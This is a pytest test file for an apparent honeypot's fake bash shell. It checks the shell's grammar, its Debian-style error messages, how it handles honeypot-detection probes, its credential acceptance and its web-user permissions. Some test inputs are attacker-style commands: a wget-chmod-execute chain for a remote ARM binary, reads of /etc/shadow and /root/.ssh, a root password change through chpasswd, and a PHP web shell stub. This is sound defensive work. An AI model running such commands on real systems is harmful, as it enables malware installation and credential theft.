"""The fake shell: bash grammar, wording, commands, budgets (pure, no sockets)."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from phantomnet.deception.credentials import CredentialPolicy, CredentialPolicyConfig
from phantomnet.deception.host import FakeHost
from phantomnet.deception.shell import Shell, run_command
from phantomnet.deception.shell.commands import BUILTINS, COMMANDS
from phantomnet.deception.shell.lexer import ShellSyntaxError
from phantomnet.deception.shell.parser import parse


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> FakeHost:
    return FakeHost.load(tmp_path_factory.mktemp("host"))


async def sh(host: FakeHost, line: str, ip: str = "192.0.2.1") -> str:
    shell = Shell(host, ip)
    return (await shell.run(line)).output.decode()


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("echo 'a  b' \"c  d\" e\\ f", "a  b c  d e f\n"),
        ("x=1; y=$x$x; echo $y ${y}0 ${nope:-dflt}", "11 110 dflt\n"),
        ("true && echo yes || echo no; false && echo yes || echo no", "yes\nno\n"),
        ("for i in 1 2 3; do echo $i; done", "1\n2\n3\n"),
        ("echo $((6*7)) $(( (2+3) * 4 )) $((7/2)) $((2**10))", "42 20 3 1024\n"),
        ("echo `id -u` $(whoami)", "0 root\n"),
        ("i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done", "1\n2\n3\n"),
        ("if [ -d /etc ]; then echo dir; elif true; then echo x; else echo no; fi", "dir\n"),
        ("case foo.sh in *.txt) echo t;; *.sh) echo s;; esac", "s\n"),
        ("printf '%s-%d\\n' a 1 b 2", "a-1\nb-2\n"),
        ("echo hi | tr a-z A-Z | rev 2>/dev/null; echo done", "IH\ndone\n"),
        ("echo one > /tmp/f; echo two >> /tmp/f; cat /tmp/f | wc -l", "2\n"),
        ("cd /tmp && pwd; cd - >/dev/null; pwd", "/tmp\n/root\n"),
        ("echo a b c | awk '{print $2}'", "b\n"),
        ("echo hello world | sed 's/world/there/'", "hello there\n"),
        ("echo aGVsbG8= | base64 -d", "hello"),
        ("{ echo a; echo b; } | sort -r", "b\na\n"),
        ("(cd /etc; pwd); pwd", "/etc\n/root\n"),
        ("echo x 2>&1 >/dev/null", ""),
        ("ls /nonexistent 2>&1 | grep -c cannot", "1\n"),
        ("echo $HOME $USER $SHELL", "/root root /bin/bash\n"),
    ],
)
async def test_bash_grammar(host: FakeHost, line: str, expected: str) -> None:
    assert await sh(host, line) == expected


async def test_glob_expansion_on_the_fake_fs(host: FakeHost) -> None:
    out = await sh(host, "touch /tmp/g1.sh /tmp/g2.sh; echo /tmp/g*.sh; echo /nope/*", "192.0.2.9")
    assert out == "/tmp/g1.sh /tmp/g2.sh\n/nope/*\n"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("ls /nonexistent", "ls: cannot access '/nonexistent': No such file or directory\n"),
        ("cd /nope", "-bash: cd: /nope: No such file or directory\n"),
        ("rm /nope", "rm: cannot remove '/nope': No such file or directory\n"),
        ("touch /proc/x", "touch: cannot touch '/proc/x': No such file or directory\n"),
        ("cat /etc", "cat: /etc: Is a directory\n"),
        ("mkdir /etc", "mkdir: cannot create directory \u2018/etc\u2019: File exists\n"),
        ("foo", "-bash: foo: command not found\n"),
        ("/bin/busybox ZONESEC", "ZONESEC: applet not found\n"),
        ("echo a;;", "-bash: syntax error near unexpected token `;;'\n"),
        ("which ls", "/usr/bin/ls\n"),
    ],
)
async def test_wording_matches_debian(host: FakeHost, line: str, expected: str) -> None:
    assert await sh(host, line) == expected


async def test_detection_probes_pass(host: FakeHost) -> None:
    out = await sh(host, "busybox dd if=/proc/self/exe bs=1 count=4 2>/dev/null | od -An -tx1")
    assert out.split() == ["7f", "45", "4c", "46"]
    assert int(await sh(host, "ps aux | wc -l")) > 10
    assert "sshd: root@pts/0" in await sh(host, "ps aux")
    assert await sh(host, "ls /home") not in ("", "richard\n", "phil\n")
    first, second = await sh(host, "free -m"), await sh(host, "free -m")
    assert first != second
    assert "load average: 0.00, 0.00, 0.00" not in await sh(host, "uptime")


async def test_wget_records_without_fetching(host: FakeHost) -> None:
    shell = Shell(host, "192.0.2.20")
    result = await shell.run("cd /tmp; wget http://198.51.100.9/x.arm7; chmod +x x.arm7; ./x.arm7")
    assert [d.url for d in result.downloads] == ["http://198.51.100.9/x.arm7"]
    assert "saved [" in result.output.decode()
    assert shell.fs.exists("/tmp/x.arm7")


async def test_arm_binary_fails_like_bash(host: FakeHost) -> None:
    fs = host.fs("192.0.2.21")
    fs.write(
        "/tmp/bot", b"\x7fELF\x01\x01\x01" + b"\x00" * 11 + b"\x28\x00" + b"\x00" * 40, mode=0o755
    )
    out = await sh(host, "/tmp/bot", "192.0.2.21")
    assert out == "-bash: /tmp/bot: cannot execute binary file: Exec format error\n"


async def test_budgets_stop_endless_loops(host: FakeHost) -> None:
    result = await Shell(host, "192.0.2.22").run("while true; do echo y; done")
    assert 0 < result.output.count(b"y\n") <= 5000


async def test_run_command_api_for_other_doors(host: FakeHost) -> None:
    result = await run_command("id; cat /etc/hostname; nosuch", host, "192.0.2.30")
    assert result.stdout.decode().startswith("uid=33(www-data) gid=33(www-data)")
    assert host.persona.hostname in result.stdout.decode()
    assert result.stderr == b"bash: nosuch: command not found\n"
    assert result.unknown == ["nosuch"]


def test_at_least_sixty_commands_are_on_the_path(host: FakeHost) -> None:
    fs = host.fs("192.0.2.40")
    on_path = {n for n in COMMANDS if any(fs.exists(f"{d}/{n}") for d in ("/usr/bin", "/usr/sbin"))}
    assert len(on_path | set(BUILTINS)) >= 60


def test_syntax_errors_are_reported_not_raised() -> None:
    with pytest.raises(ShellSyntaxError):
        parse("for do done")
    assert parse("echo 'a;b' # comment").items


def test_credential_policy(host: FakeHost) -> None:
    policy = CredentialPolicy(
        CredentialPolicyConfig(accept=("root:123456",), accept_after=3), host.tokens
    )
    assert policy.check_password("1.1.1.1", "root", "123456").accepted
    assert not policy.check_password("2.2.2.2", "admin", "a").accepted
    assert not policy.check_password("2.2.2.2", "admin", "b").accepted
    assert not policy.check_password("2.2.2.2", "admin", "c").accepted
    assert policy.check_password("2.2.2.2", "admin", "d").accepted
    assert policy.check_password("2.2.2.2", "admin", "d").accepted  # remembered
    assert not policy.check_password("2.2.2.2", "admin", "e").accepted
    [token] = host.tokens.by_kind("ssh_password")
    decision = policy.check_password("3.3.3.3", token.username or "", token.secret)
    assert decision.accepted and decision.token == token


async def test_chpasswd_makes_the_new_password_work(host: FakeHost) -> None:
    await sh(host, "echo 'root:N3wPass!' | chpasswd", "192.0.2.50")
    assert host.policy.check_password("192.0.2.50", "root", "N3wPass!").accepted


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("cat /etc/shadow", "cat: /etc/shadow: Permission denied\n"),
        ("ls /root", "ls: cannot open directory '/root': Permission denied\n"),
        ("ls -l /root/.ssh", "ls: cannot access '/root/.ssh': Permission denied\n"),
        ("cd /root", "bash: cd: /root: Permission denied\n"),
        ("echo x > /etc/passwd", "bash: /etc/passwd: Permission denied\n"),
        ("rm /etc/hosts", "rm: cannot remove '/etc/hosts': Permission denied\n"),
        (
            "chmod 777 /etc/passwd",
            "chmod: changing permissions of '/etc/passwd': Operation not permitted\n",
        ),
        ("id -un; head -1 /etc/passwd", "www-data\nroot:x:0:0:root:/root:/bin/bash\n"),
    ],
)
async def test_permissions_for_the_web_user(host: FakeHost, line: str, expected: str) -> None:
    result = await run_command(line, host, "192.0.2.60", cwd="/var/www/html")
    assert result.output.decode() == expected


async def test_web_user_owns_the_web_root(host: FakeHost) -> None:
    result = await run_command("echo '<?php' > shell.php; ls -l shell.php", host, "192.0.2.61",
                               cwd="/var/www/html")  # fmt: skip
    assert result.stdout.decode().startswith("-rw-r--r-- 1 www-data www-data 6 ")
    assert host.fs("192.0.2.61").read("/var/www/html/shell.php") == b"<?php\n"


_ALPHABET = "ab $`'\"\\;|&<>(){}[]*?~=#!-/.01\n\t" + "\x00\xe9"


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(line=st.text(alphabet=_ALPHABET, max_size=60))
async def test_any_input_never_raises(host: FakeHost, line: str) -> None:
    shell = Shell(host, "192.0.2.70")
    shell.sleep_budget = 0
    result = await shell.run(line)
    assert isinstance(result.output, bytes) and len(result.output) <= 1024 * 1024


@settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(words=st.lists(st.sampled_from(sorted(COMMANDS)), min_size=1, max_size=3),
       arg=st.sampled_from(["", "-la", "/etc/passwd", "/nope", "-", "/proc", "x y", "-n 2"]))  # fmt: skip
async def test_every_command_survives_odd_arguments(
    host: FakeHost, words: list[str], arg: str
) -> None:
    shell = Shell(host, "192.0.2.71")
    shell.sleep_budget = 0
    result = await shell.run(" | ".join(f"{w} {arg}" for w in words))
    assert isinstance(result.status, int)
